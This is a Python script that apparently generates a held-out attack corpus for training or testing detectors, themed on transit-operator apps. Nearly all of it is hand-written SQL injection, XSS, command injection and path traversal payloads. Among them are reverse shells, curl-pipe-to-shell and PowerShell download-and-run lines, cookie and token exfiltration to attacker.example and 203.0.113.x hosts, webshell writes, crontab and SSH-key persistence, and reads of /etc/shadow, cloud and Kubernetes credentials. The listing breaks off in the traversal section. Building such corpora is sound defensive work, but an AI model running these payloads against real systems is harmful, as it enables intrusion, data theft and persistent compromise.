r"""Held-out ATTACK corpus for the transit theme (ids ha52-NNNNN).

Attack payloads written in the notations and fields of a public-transport
operator's apps: stop searches, stop/route ids, GTFS rows, trip-planner
queries, alert and notification templates, rider feedback, lost-and-found,
fare-card numbers, vehicle IPs for on-board diagnostics, feed paths and feed
URLs, NeTEx/SIRI XML uploads, driver logins, staff directory lookups.

Each entry is (class, value).  The class is "<context>-<technique>[+<encoding>]"
and names where a vulnerable app puts the value: e.g. "stop_search-union" is a
value concatenated into `... WHERE stop_name LIKE '%<value>%'`, "feed_url-..."
is a URL the server fetches, "vehicle_ip-..." is interpolated into a shell line
such as `ping -c 1 <value>`, "notify_template-..." is rendered as a server-side
template.  "plain-" classes are context-free textbook forms (about 10%).

All payloads were written by hand for this corpus from an understanding of how
each technique works; a few small templates over hand-written pools add
variety.  Attacker infrastructure uses attacker.example, *.attacker.example,
203.0.113.0/24 and 198.51.100.0/24 only; secrets are placeholders.

Run:  python3 make_attacks.py   ->  writes attacks.jsonl next to this file.
"""

import json
import random
from pathlib import Path

SEED = 5202
PREFIX = "ha52"

# --------------------------------------------------------------------------
# sqli
# --------------------------------------------------------------------------
SQLI = [
    ("stop_search-union", "Central' UNION SELECT username, password_hash, NULL FROM staff_accounts--"),
    ("stop_id-error_mssql_convert", "S1042' AND 1=CONVERT(int,(SELECT TOP 1 badge_no FROM drivers))--"),
    ("stop_search-time_pg", "Hbf%' AND (SELECT 1 FROM pg_sleep(6)) IS NOT NULL AND '%'='"),
    ("route_id-boolean_subquery", "42 AND 1=(SELECT CASE WHEN substr((SELECT secret FROM app_config LIMIT 1),1,1)='a' THEN 1 ELSE 0 END)"),
    ("route_id-stacked_update", "R42'; UPDATE fare_products SET price=0 WHERE fare_id='ADULT';--"),
    ("trip_query-tautology", "Airport T2' OR 'x'='x"),
    ("fare_card-error_mysql_extractvalue", "4417' AND extractvalue(1,concat(0x7e,(SELECT card_pan FROM fare_cards LIMIT 1)))-- -"),
    ("trip_query-time_mysql", "Union Station' AND SLEEP(5)#"),
    ("gtfs_row-insert_subquery", "S9001,\"Harbour',51.5,-0.12),('S9002',(SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow),0,0)-- \",51.5,-0.12,0,"),
    ("api_sort-boolean_orderby", "(CASE WHEN (SELECT count(*) FROM staff WHERE role='admin')>3 THEN stop_name ELSE trip_headsign END)"),
    ("api_sort-time_mysql", "stop_name, IF(SUBSTRING(@@version,1,1)='8',SLEEP(4),0)"),
    ("timetable_date-union_schema", "2024-04-15' UNION ALL SELECT table_name,column_name,NULL,NULL FROM information_schema.columns WHERE table_schema=database()-- x"),
    ("stop_id-error_oracle_inaddr", "S1042' AND 1=UTL_INADDR.get_host_name((SELECT user FROM dual))--"),
    ("feedback-oob_oracle_http", "Lovely driver' || (SELECT UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT password FROM dba_users WHERE rownum=1)) FROM dual) || '"),
    ("lost_found-oob_mssql_dirtree", r"umbrella'; DECLARE @q varchar(200)=(SELECT TOP 1 badge_no FROM drivers); EXEC('master..xp_dirtree ''\\'+@q+'.oob.attacker.example\a''');--"),
    ("defect_report-stacked_xp_cmdshell", "brake noise'; EXEC xp_cmdshell 'powershell -nop -c \"iwr http://203.0.113.7/d.ps1 -UseBasicParsing|iex\"';--"),
    ("stop_search-union_sqlite_master", "Central' UNION SELECT name, sql, NULL FROM sqlite_master--"),
    ("stop_id-boolean_sqlite", "S1042' AND substr((SELECT hex(api_key) FROM keys LIMIT 1),1,1)='4' AND 'a'='a"),
    ("route_id-stacked_pg_copy_program", "R12'; COPY (SELECT 1) TO PROGRAM 'curl -s http://203.0.113.9/x | sh';--"),
    ("stop_id-error_pg_cast", "S1042' AND 1=CAST((SELECT current_user) AS int)--"),
    ("stop_code-tautology_numeric", "1042 OR 1=1 LIMIT 1 OFFSET 3"),
    ("route_id-boolean_bisect", "42 AND ASCII(SUBSTRING((SELECT password FROM users WHERE login='dispatch'),1,1))>77"),
    ("fare_card-time_mssql", "4417'; IF (SELECT COUNT(*) FROM sys.databases)>5 WAITFOR DELAY '0:0:7'--"),
    ("trip_query-heavy_query", "Zoo' AND (SELECT count(*) FROM information_schema.columns A, information_schema.columns B, information_schema.columns C)>0 AND 'z'='z"),
    ("feedback-insert_subquery", "Great driver!', (SELECT group_concat(email) FROM riders), 5)-- "),
    ("api_json-tautology", "{\"stop_id\": \"S1042' OR 1=1--\", \"limit\": 10}"),
    ("lost_found-union_mysql", "wallet%' AND 0 UNION SELECT 1,concat(login,0x3a,pass),3 FROM operators-- -"),
    ("trip_query-time_pg_concat", "Hbf'||(SELECT 'x' FROM pg_sleep(8))||' -> Airport T2, dep 07:45"),
    ("stop_search-union+comment_space", "Central'/**/UNION/**/SELECT/**/login,pwd_hash,NULL/**/FROM/**/staff--"),
    ("stop_search-union+urlenc", "Harbour%27%20UNION%20SELECT%20login%2Cpwd_hash%2CNULL%20FROM%20staff--%20"),
    ("stop_id-union+double_urlenc", "S1042%2527%2520AND%25201%253D0%2520UNION%2520SELECT%2520NULL%252Cversion()%252CNULL--%2520"),
    ("route_id-union+case_mix", "R42' uNiOn AlL sElEcT NULL,version(),NULL-- -"),
    ("stop_id-union+versioned_comment", "S1042'/*!50000UNION*//*!50000SELECT*/1,user(),3-- -"),
    ("lost_found-union_load_file+hex", "x' UNION SELECT 1,load_file(0x2f6574632f706173737764),3-- -"),
    ("lost_found-union_into_outfile", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2,3 INTO OUTFILE '/var/www/html/timetable/c.php'-- -"),
    ("api_sort-boolean_case_hash", "(CASE WHEN (SELECT substr(pwd_hash,1,1) FROM staff WHERE login='ops1')='$' THEN stop_name ELSE stop_id END)"),
    ("stop_id-tautology+unicode_fullwidth", "S1042＇ OR ＇1＇=＇1"),
    ("feedback-stacked_drop", "Night bus N5 is great'); DROP TABLE feedback;--"),
    ("gtfs_row-stop_times_time_pg", "T100,07:45:00,07:45:30,S1042' || (SELECT 'a' FROM pg_sleep(5)) || ',1,0,0"),
    ("stop_name-error_mysql_updatexml", "Harbour' AND updatexml(null,concat(0x3a,(SELECT api_key FROM partners LIMIT 1)),null)-- -"),
    ("route_id-boolean_rlike_error", "42' AND (SELECT 1 RLIKE IF(MID(@@hostname,1,1)='d',1,0x28))-- -"),
    ("stop_id-boolean_pg_exists", "S1' AND EXISTS(SELECT 1 FROM pg_user WHERE usesuper AND usename=current_user)--"),
    ("stop_search-union_oracle_user", "x' UNION SELECT name, password, NULL FROM sys.user$--"),
    ("route_id-union_db2_syscat", "R42' UNION SELECT tabname, colname, NULL FROM syscat.columns--"),
    ("stop_code-stacked_waitfor", "1042; WAITFOR DELAY '00:00:06'--"),
    ("dispatch_msg-stacked_insert_admin", "ok'; INSERT INTO staff_accounts(login,pwd_hash,role) VALUES('ops2','$2b$12$PLACEHOLDERplaceholderPLACEHOLDERplaceholder12','admin');--"),
    ("fare_card-boolean_oracle", "4417' AND (SELECT COUNT(*) FROM all_users)>20 AND 'q'='q"),
    ("fare_dispute-tautology_neq", "2024-03-14 08:12' OR refund_status<>'x' OR '"),
    ("stop_search-tautology_dquote", "Central\" OR \"\"=\""),
    ("stop_search-tautology+escape_bypass", "Hbf\\' OR 1=1-- -"),
    ("stop_search-tautology+gbk_widebyte", "%bf%27 OR 1=1-- -"),
    ("fare_amount-boolean_numeric", "2.90 AND (SELECT SUBSTRING(password,1,1) FROM staff LIMIT 1)='$'"),
    ("stop_search-union_mssql_logins", "x' UNION SELECT name, master.sys.fn_varbintohexstr(password_hash), NULL FROM sys.sql_logins--"),
    ("route_id-stacked_pg_lo_import", "R42'; SELECT lo_import('/etc/passwd', 4242);--"),
    ("feedback-oob_pg_dblink", "nice'||(SELECT dblink_connect('host='||current_user||'.oob.attacker.example user=x dbname=x'))||'"),
    ("lost_found-oob_mysql_unc", r"x' AND LOAD_FILE(CONCAT('\\\\',(SELECT password FROM mysql.user LIMIT 1),'.oob.attacker.example\\a'))-- -"),
    ("lost_found-stacked_time_pg", "black wallet'; SELECT pg_sleep(10)--"),
    ("dispatch_msg-union_pg_setting", "run 7' AND 1=0 UNION SELECT NULL,NULL,current_setting('data_directory')--"),
    ("gtfs_service-union_string_agg", "WKDY' UNION SELECT service_id, string_agg(api_token, ';'), NULL FROM partner_keys GROUP BY service_id--"),
    ("stop_id-tautology_dhid", "de:08111:6118' OR 'x'='x"),
    ("stop_search-stacked_sqlite_attach", "x'; ATTACH DATABASE '/var/www/transit/static/s.php' AS p; CREATE TABLE p.t(c text); INSERT INTO p.t VALUES('<?php system($_GET[\"c\"]); ?>');--"),
    ("stop_code-boolean_char", "1042 AND (SELECT substr(pwd_hash,1,1) FROM staff LIMIT 1)=CHAR(36)"),
    ("trip_query-error_pg_query_to_xml", "Hbf' AND 1=CAST(query_to_xml('SELECT login FROM staff',true,true,'')::text AS int)--"),
    ("route_id-union+comment_newline", "R42'\n--x\nUNION\n--x\nSELECT NULL,current_user,NULL--"),
    ("plain-tautology_comment", "' OR 1=1-- -"),
    ("plain-time_mysql", "1' AND SLEEP(3)-- -"),
    ("plain-tautology_paren", "') OR ('a'='a"),
    ("plain-union_nulls", "1 UNION SELECT NULL,NULL,NULL--"),
    ("plain-comment_truncation", "admin'--"),
    ("plain-stacked_pg_sleep", "1; SELECT pg_sleep(4)"),
    ("plain-error_mssql_version", "' AND 1=CONVERT(int,@@version)--"),
    ("plain-tautology_hash", "\" OR 1=1 #"),
]

SQ_STOPS = ["Central", "Harbour", "Hbf", "Museum", "Elm St & 3rd", "S1042", "Union Sq", "Gare de l", "Rathaus", "R42"]
SQ_UNION = [
    ("login, pwd_hash, NULL", "staff"),
    ("badge_no, pin, NULL", "drivers"),
    ("card_pan, balance, NULL", "fare_cards"),
    ("api_key, owner, NULL", "partner_keys"),
    ("email, phone, NULL", "riders"),
]
SQ_TIME = ["pg_sleep(5)", "pg_sleep(7)", "SLEEP(5)", "SLEEP(6)"]
SQ_ERRCOL = [("pwd_hash", "staff"), ("api_key", "partner_keys"), ("pin", "drivers"), ("card_pan", "fare_cards")]


def tpl_sqli(rng):
    stop = rng.choice(SQ_STOPS)
    form = rng.randrange(3)
    if form == 0:
        cols, table = rng.choice(SQ_UNION)
        return "stop_search-union", "%s' UNION SELECT %s FROM %s--" % (stop, cols, table)
    if form == 1:
        fn = rng.choice(SQ_TIME)
        if fn.startswith("pg"):
            return "stop_id-time_pg", "%s' AND (SELECT 1 FROM %s) IS NOT NULL--" % (stop, fn)
        return "stop_id-time_mysql", "%s' AND %s-- -" % (stop, fn)
    col, table = rng.choice(SQ_ERRCOL)
    return "stop_id-error_pg_cast", "%s' AND 1=CAST((SELECT %s FROM %s LIMIT 1) AS int)--" % (stop, col, table)


# --------------------------------------------------------------------------
# xss
# --------------------------------------------------------------------------
XSS = [
    ("alert_text-img_onerror", "Detour via Oak St <img src=x onerror=\"fetch('//attacker.example/c?'+document.cookie)\">"),
    ("station_name-title_breakout", "Elm & 3rd</title><script src=https://cdn.attacker.example/b.js></script>"),
    ("route_color-attr_breakout", "0072CE\" autofocus onfocus=\"alert(document.domain)\" tabindex=\"1"),
    ("route_url-javascript_uri", "javascript:fetch('https://attacker.example/k',{method:'POST',body:localStorage.getItem('token')})"),
    ("stop_name-js_string_breakout", "Harbour';fetch('//attacker.example/'+document.cookie);//"),
    ("stop_desc-script_close", "</script><script>alert(origin)</script>"),
    ("lost_found-details_ontoggle", "Lost: blue umbrella <details open ontoggle=\"location='https://attacker.example/?'+document.cookie\">"),
    ("alert_markdown-link_javascript", "[Detour map](javascript:alert(document.cookie))"),
    ("route_url-javascript_uri+html_entities", "javascript&#58;alert(document.domain)"),
    ("route_url-javascript_uri+entity_tab", "jav&#x09;ascript:alert(document.cookie)"),
    ("feedback-iframe_srcdoc+html_entities", "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>"),
    ("alert_text-angular_csti", "Line 4 resumed {{constructor.constructor('alert(document.domain)')()}}"),
    ("feedback-textarea_breakout", "</textarea><img src=x onerror=alert(document.cookie)>"),
    ("alert_style-style_breakout", "</style><script>alert(document.domain)</script>"),
    ("lost_found-form_injection", "<form action=https://attacker.example/login method=post><p>Session expired. Re-enter your fare card PIN:</p><input name=pin type=password><button>Verify</button></form>"),
    ("alert_text-meta_refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/fare-refund\">"),
    ("alert_text-base_hijack", "<base href=\"https://cdn.attacker.example/\">"),
    ("stop_name-dom_innerhtml+unicode_escape", "\\u003cimg src=x onerror=alert(document.domain)\\u003e"),
    ("trip_query-reflected_script+urlenc", "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("trip_query-svg_onload+double_urlenc", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("station_name-svg_onload+case_mix", "<sVg/OnLoAd=alert(document.domain)>"),
    ("alert_text-svg_dynamic_import", "<svg/onload=import('//attacker.example/m.js')>"),
    ("feedback-img_eval+base64", "<img src=x onerror=eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8nK2RvY3VtZW50LmNvb2tpZSk='))>"),
    ("alert_text-body_onpageshow", "<body onpageshow=alert(document.domain)>"),
    ("lost_found-video_source_onerror", "<video><source onerror=\"alert(document.domain)\"></video>"),
    ("feedback-input_autofocus", "<input autofocus onfocus=alert(document.cookie)>"),
    ("alert_text-marquee_onstart", "<marquee onstart=alert(document.domain)>Service resumed on Line 4</marquee>"),
    ("station_name-svg_animate_onbegin", "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"),
    ("map_label-svg_anchor_javascript", "<svg><a href=\"javascript:alert(document.domain)\"><text x=\"20\" y=\"20\">Stop map</text></a></svg>"),
    ("feedback-dangling_markup", "Thanks! <img src='https://attacker.example/collect?"),
    ("route_color-css_exfil", "0072CE;}input[name=csrf_token][value^=a]{background:url(https://attacker.example/leak?a)"),
    ("station_name-unquoted_attr", "x onmouseover=alert(document.domain)"),
    ("stop_desc-js_template_literal", "${alert(document.domain)}"),
    ("api_callback-jsonp", "alert(document.domain)//"),
    ("map_upload-svg_onload", "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\">\n  <text x=\"10\" y=\"20\">Route 42</text>\n</svg>"),
    ("lost_found-script_exfil", "Lost: red scarf\n<script>\nnew Image().src='//attacker.example/l?c='+encodeURIComponent(document.cookie)\n</script>"),
    ("alert_text-image_tag_alias", "<image src=x onerror=alert(document.domain)>"),
    ("feedback-mxss_noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(document.domain)>\">"),
    ("debug_comment-comment_breakout", "--><img src=x onerror=alert(document.domain)>"),
    ("alert_text-onclick_beacon", "<a href=\"#\" onclick=\"navigator.sendBeacon('https://attacker.example/b',document.body.innerHTML)\">Show replacement bus map</a>"),
    ("feedback-keylogger", "<img src=x onerror=\"document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)\">"),
    ("alert_text-script_src_protocol_relative", "Strike notice <script src=//attacker.example/x.js></script>"),
    ("feedback-event_handler+html_entities", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("feedback-js_identifier+unicode_escape", "<img src=x onerror=\\u0061lert(document.domain)>"),
    ("stop_name-js_dquote_breakout", "\";alert(document.domain);//"),
    ("stop_desc-script_close_svg", "Harbour</script><svg onload=alert(document.domain)>"),
    ("route_url-iframe_javascript", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("alert_text-link_stylesheet", "<link rel=stylesheet href=https://attacker.example/s.css>"),
    ("alert_text-angular_on_constructor", "{{$on.constructor('fetch(\"//attacker.example/\"+document.cookie)')()}}"),
    ("feedback-vue_csti", "{{_c.constructor('alert(document.domain)')()}}"),
    ("trip_query-attr_breakout_svg", "Hbf\"><svg onload=alert(document.domain)>"),
    ("alert_text-img_onerror_ja", "運休のお知らせ<img src=1 onerror=alert(document.domain)>"),
    ("station_name-svg_script+html_entities", "<svg><script>alert&#40;document.domain&#41;</script></svg>"),
    ("route_url-anchor_href+html_entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">Fahrplan</a>"),
    ("trip_query-script+overlong_utf8", "%C0%BCscript%C0%BEalert(document.domain)%C0%BC/script%C0%BE"),
    ("feedback-mxss_svg_style", "<svg><style><img src=x onerror=alert(document.domain)></style></svg>"),
    ("lost_found-button_formaction", "<form><button formaction=javascript:alert(document.domain)>Report lost item</button></form>"),
    ("feedback-textarea_autofocus", "<textarea autofocus onfocus=alert(document.cookie)>"),
    ("alert_text-object_data_uri+base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></object>"),
    ("dispatch_msg-img_admin_exfil", "42X run 7 delayed <img src=/ onerror=\"fetch('/api/admin/users').then(r=>r.text()).then(t=>fetch('https://attacker.example/u',{method:'POST',body:t}))\">"),
    ("gtfs_row-route_long_name_img", "R99,MTA,99,\"Harbour <img src=x onerror=alert(document.domain)> Express\",3,0072CE,FFFFFF"),
    ("gtfs_row-stop_name_svg", "S9003,\"<svg onload=alert(document.cookie)>\",40.7128,-74.0060,0,"),
    ("plain-script_alert", "<script>alert(1)</script>"),
    ("plain-img_onerror", "<img src=x onerror=alert(1)>"),
    ("plain-attr_breakout_svg", "\"><svg onload=alert(1)>"),
    ("plain-javascript_uri", "javascript:alert(1)"),
    ("plain-body_onload", "<body onload=alert(1)>"),
    ("plain-single_quote_breakout", "'><img src=x onerror=prompt(1)>"),
    ("plain-svg_confirm", "<svg onload=confirm(1)>"),
    ("plain-iframe_src_js", "<iframe src=javascript:alert(1)>"),
]

XS_TEXT = [
    "Route 42 detour", "Lift out of order", "Lost: grey scarf", "Platform change",
    "Strike on Monday", "Tram 8 diverted", "Found: keys", "Great driver today",
]
XS_TAGS = [
    ("img src=x", "onerror"), ("svg", "onload"), ("video src=x", "onerror"),
    ("audio src=x", "onerror"), ("details open", "ontoggle"), ("body", "onpageshow"),
]
XS_JS = [
    "alert(document.domain)",
    "fetch('//attacker.example/?c='+document.cookie)",
    "location='https://attacker.example/p?'+document.cookie",
    "navigator.sendBeacon('//attacker.example/b',localStorage.token)",
    "import('//attacker.example/x.js')",
]


def tpl_xss(rng):
    tag, ev = rng.choice(XS_TAGS)
    js = rng.choice(XS_JS)
    ctx = rng.choice(["alert_text", "feedback", "lost_found", "station_name"])
    return "%s-%s_%s" % (ctx, tag.split()[0], ev), "%s <%s %s=\"%s\">" % (rng.choice(XS_TEXT), tag, ev, js)


# --------------------------------------------------------------------------
# cmdi
# --------------------------------------------------------------------------
CMDI = [
    ("stop_id-semicolon", "S1042; cat /etc/passwd"),
    ("gtfs_file-pipe_exfil", "stops.txt | curl -d @/etc/shadow http://203.0.113.5/u"),
    ("timetable_date-and_chain", "2024-04-15 && id > /var/www/html/static/i.txt"),
    ("vehicle_ip-subshell_time", "10.20.4.17$(sleep 7)"),
    ("vehicle_ip-backtick_dns", "10.20.4.17`nslookup $(whoami).oob.attacker.example`"),
    ("route_id-newline", "R42\nwget -qO- http://203.0.113.8/r.sh | sh"),
    ("export_zip-ifs", "route_42.zip;${IFS}busybox${IFS}nc${IFS}203.0.113.4${IFS}4444${IFS}-e${IFS}sh"),
    ("map_image-brace_expansion", "map.png;{cat,/opt/transit/.env}"),
    ("feed_url-curl_arg_injection", "-o /var/www/html/x.php http://203.0.113.6/s.txt"),
    ("feed_url-wget_arg_injection", "--post-file=/etc/passwd http://203.0.113.6/"),
    ("gtfs_archive-tar_checkpoint_action", "--checkpoint=1 --checkpoint-action=exec=id>/tmp/t"),
    ("feed_repo-git_upload_pack", "--upload-pack=touch /tmp/pwn"),
    ("map_image-imagemagick_pipe", "|curl -s http://203.0.113.3/m.sh|sh"),
    ("lostfound_email-sendmail_args", "lost@transit.example -OQueueDirectory=/tmp -X/var/www/html/lf.php"),
    ("stop_id-win_ampersand", r"S1042 & type C:\inetpub\wwwroot\web.config"),
    ("stop_id-win_powershell_download", "S1042 | powershell -nop -c \"iwr http://203.0.113.7/p -OutFile $env:TEMP\\p.exe; & $env:TEMP\\p.exe\""),
    ("stop_id-var_slicing", "S1042;${PATH:0:1}bin${PATH:0:1}cat ${PATH:0:1}etc${PATH:0:1}passwd"),
    ("stop_name-squote_breakout", "Harbour'; curl http://203.0.113.2/$(hostname) #"),
    ("stop_name-dquote_breakout", "Central\"; nc 203.0.113.9 9001 -e /bin/sh; \""),
    ("route_id-or_time", "42 || sleep 9"),
    ("stop_id-semicolon+urlenc", "S1042%3Bcat%20%2Fetc%2Fpasswd"),
    ("vehicle_ip-newline+urlenc", "10.20.4.17%0acat%20/etc/shadow"),
    ("route_id-pipe_sh+base64", "R42;echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUvYy5zaHxzaA==|base64 -d|sh"),
    ("route_id-printf_subshell+hex_escape", "R42;$(printf '\\x69\\x64')"),
    ("stop_id-quote_split", "S1042;c''at /e''tc/pa''sswd"),
    ("stop_id-backslash_split", "S1042;c\\at /et\\c/pas\\swd"),
    ("stop_id-glob", "S1042;/???/c?t /???/p?ss??"),
    ("defect_report-bash_devtcp_revshell", "brakes; bash -c 'bash -i >& /dev/tcp/203.0.113.10/443 0>&1'"),
    ("defect_report-python_revshell", "x; python3 -c 'import socket,os,pty;s=socket.create_connection((\"203.0.113.11\",8443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("gtfs_file-dns_exfil", "stops.txt; dig +short $(head -c 40 /opt/transit/api_key | base32 | tr -d =).oob.attacker.example"),
    ("route_id-crontab_persist", "R9; (crontab -l; echo '*/5 * * * * curl -s http://203.0.113.12/b|sh') | crontab -"),
    ("stop_id-ssh_key_persist", "S1 && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPLACEHOLDERnotArealKEYplaceholderNOTREAL00 x' >> ~/.ssh/authorized_keys"),
    ("route_id-env_exfil", "R12; env | curl -X POST --data-binary @- https://attacker.example/env"),
    ("feed_search-find_exec", "*.txt -newer x -exec sh -c \"id > /tmp/f\" {} +"),
    ("export_zip-zip_tt", "route_42.zip stops.txt -T -TT 'sh -c id>/tmp/z'"),
    ("route_id-subshell_stage", "$(curl -s http://203.0.113.13/x.sh | sh)"),
    ("vehicle_ip-pipe_win", "10.20.4.17 | whoami"),
    ("route_id-background_time", "R42 & sleep 8 &"),
    ("stop_id-devtcp_exfil", "S1042 $(id>/dev/tcp/203.0.113.14/80)"),
    ("stop_id-awk_system", "S1042;awk 'BEGIN{system(\"uname -a\")}'"),
    ("gtfs_file-semicolon_rm_log", "agency.txt;rm -f /var/log/transit/audit.log"),
    ("dispatch_msg-subshell_reboot", "Unit 42 at depot $(shutdown -r now)"),
    ("route_id-webshell_write", "R7; echo '<?php system($_GET[1]);?>' > /var/www/html/timetables/t.php"),
    ("route_id-brace_wget", "R7;{wget,-qO-,http://203.0.113.15/a}|sh"),
    ("stop_id-tab_separator", "S1042;\tcat\t/etc/hosts"),
    ("stop_id-redirect_nospace", "S1042;cat</etc/passwd"),
    ("stop_id-win+case_mix", "S1042 & WhOaMi /AlL"),
    ("stop_id-semicolon+double_urlenc", "S1042%253Bid"),
    ("stop_id-semicolon+overlong_utf8", "S1042%c0%bbid"),
    ("stop_id-win+caret_escape", "S1042&w^h^o^a^m^i"),
    ("stop_id-powershell_enc+base64", "S1042; powershell -nop -enc aQB3AHIAIABoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANwAvAHAAIAAtAE8AdQB0AEYAaQBsAGUAIAAkAGUAbgB2ADoAVABFAE0AUABcAHAALgBlAHgAZQA="),
    ("stop_id-dollar_zero", "S1042;echo id|$0"),
    ("route_id-herestring", "R42;sh<<<id"),
    ("vehicle_ip-ping_count_chain", "127.0.0.1 -c 1; ls -la /opt/transit"),
    ("feed_url-semicolon_after_url", "https://data.transit.example/gtfs.zip; curl -s http://203.0.113.16/i | sh"),
    ("timetable_date-date_file_read", "-f /etc/shadow"),
    ("defect_photo-filename_subshell", "bus4417_$(curl -s 203.0.113.17|sh).jpg"),
    ("plain-semicolon_id", "; id"),
    ("plain-pipe_whoami", "| whoami"),
    ("plain-backtick", "`id`"),
    ("plain-subshell", "$(whoami)"),
    ("plain-and_uname", "&& uname -a"),
    ("plain-or_ping_time", "|| ping -c 10 127.0.0.1"),
    ("plain-semicolon_sleep", "; sleep 10"),
]

CM_VALUES = [
    ("stop_id", "S1042"), ("stop_id", "de:08111:6118"), ("vehicle_ip", "10.20.4.17"),
    ("vehicle_ip", "10.20.7.3"), ("gtfs_file", "stop_times.txt"), ("route_id", "R42X"),
    ("export_zip", "route_12.zip"),
]
CM_CMDS = [
    "cat /opt/transit/.env", "id", "uname -a", "curl -s http://203.0.113.24/s|sh",
    "wget -qO /tmp/.x http://198.51.100.24/x", "nc 203.0.113.25 4444 -e /bin/sh",
    "cat /etc/passwd | curl -d @- https://attacker.example/p",
]
CM_SEPS = [(";", "semicolon"), ("|", "pipe"), ("&&", "and_chain"), ("||", "or_chain"), ("\n", "newline"), ("`", "backtick"), ("$(", "subshell")]


def tpl_cmdi(rng):
    ctx, val = rng.choice(CM_VALUES)
    sep, name = rng.choice(CM_SEPS)
    cmd = rng.choice(CM_CMDS)
    if sep == "`":
        return "%s-%s" % (ctx, name), "%s`%s`" % (val, cmd)
    if sep == "$(":
        return "%s-%s" % (ctx, name), "%s$(%s)" % (val, cmd)
    return "%s-%s" % (ctx, name), "%s%s %s" % (val, sep if sep != "\n" else "\n", cmd)


# --------------------------------------------------------------------------
# traversal
# --------------------------------------------------------------------------
TRAVERSAL = [
    ("feed_path-dotdot_settings", "gtfs/2024-04/../../../../../opt/transit/config/settings.py"),
    ("timetable_pdf-dotdot_environ", "timetables/route_42.pdf/../../../../../proc/self/environ"),
    ("timetable_pdf-dotdot+urlenc", "..%2f..%2f..%2f..%2fetc%2fshadow"),
    ("feed_path-dotdot+urlenc_full", "%2e%2e%2f%2e%2e%2f%2e%2e%2fvar%2flog%2ftransit%2fapp.log"),
    ("feed_path-dotdot+double_urlenc", "..%252f..%252f..%252fetc%252fpasswd"),
    ("feed_path-dotdot+overlong_utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("timetable_pdf-win_backslash", "..\\..\\..\\windows\\win.ini"),
    ("timetable_pdf-win_backslash+urlenc", "..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config"),
    ("feed_path-strip_bypass", "....//....//....//etc/passwd"),
    ("feed_path-strip_bypass_dotslash", "..././..././..././etc/hosts"),
    ("timetable_pdf-null_byte+urlenc", "../../../../etc/passwd%00.pdf"),
    ("gtfs_zip-zip_slip", "../../../../var/www/html/feeds/stop.php"),
    ("gtfs_zip-zip_slip_windows", "..\\..\\..\\..\\ProgramData\\Transit\\startup.bat"),
    ("lang_param-dotdot_cmdline", "de/../../../../../../proc/self/cmdline"),
    ("map_tile-dotdot", "14/8185/../../../../../../etc/passwd"),
    ("alert_template_name-dotdot_env", "alerts/../../../../app/.env"),
    ("feed_path-absolute_dotdot", "/var/www/transit/../../../root/.ssh/id_rsa"),
    ("timetable_pdf-win_absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("timetable_pdf-unc_path", "\\\\198.51.100.20\\share\\route42.pdf"),
    ("api_path-tomcat_semicolon", "..;/..;/manager/html"),
    ("feed_path-partial_urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("feed_path-dotdot+unicode_fullwidth", "．．／．．／．．／etc/passwd"),
    ("timetable_pdf-dotdot+iis_u_encoding", "%u002e%u002e/%u002e%u002e/%u002e%u002e/windows/win.ini"),
    ("feed_path-prefix_dotdot+urlenc", "/feeds/static/..%2f..%2f..%2f..%2fproc/self/environ"),
    ("timetable_pdf-webinf", "../../WEB-INF/web.xml"),
    ("feed_path-npmrc", "../../../../home/node/.npmrc"),
    ("feed_path-k8s_token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("feed_path-proc1_environ", "../../../../proc/1/environ"),
    ("feed_path-aws_credentials", "../../../../root/.aws/credentials"),
    ("feed_path-git_config", "../../.git/config"),
    ("timetable_pdf-strip_bypass_windows", "....\\....\\....\\windows\\win.ini"),
    ("static_path-mixed_backslash+urlenc", "static/%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini"),
    ("feed_path-htpasswd", "../.htpasswd"),
    ("lang_param-php_filter", "php://filter/convert.base64-encode/resource=../config/db.php"),
    ("feed_path-access_log", "../../../../var/log/nginx/access.log"),
    ("route_export-dotdot_shadow", "route_42/../../../../etc/shadow"),
    ("feed_path-leading_slash+urlenc", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("feed_path-strip_bypass_pgpass", "....//....//....//....//var/lib/postgresql/.pgpass"),
    ("feed_path-fullwidth_slash+urlenc", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("gtfs_file-dotdot_group", "stops.txt/../../../../../../../../etc/group"),
    ("stop_photo-dotdot_ssh", "../../../home/transit/.ssh/authorized_keys"),
    ("gtfs_zip-zip_slip_cron", "../../../../etc/cron.d/gtfs-refresh"),
    ("feed_path-proc_self_cwd", "../../../../proc/self/cwd/config.py"),
    ("lang_param-win_ini", "../../../../../../Windows/win.ini"),
    ("plain-dotdot_passwd", "../../../../etc/passwd"),
    ("plain-absolute_passwd", "/etc/passwd"),
    ("plain-dotdot_win_boot", "..\\..\\..\\..\\boot.ini"),
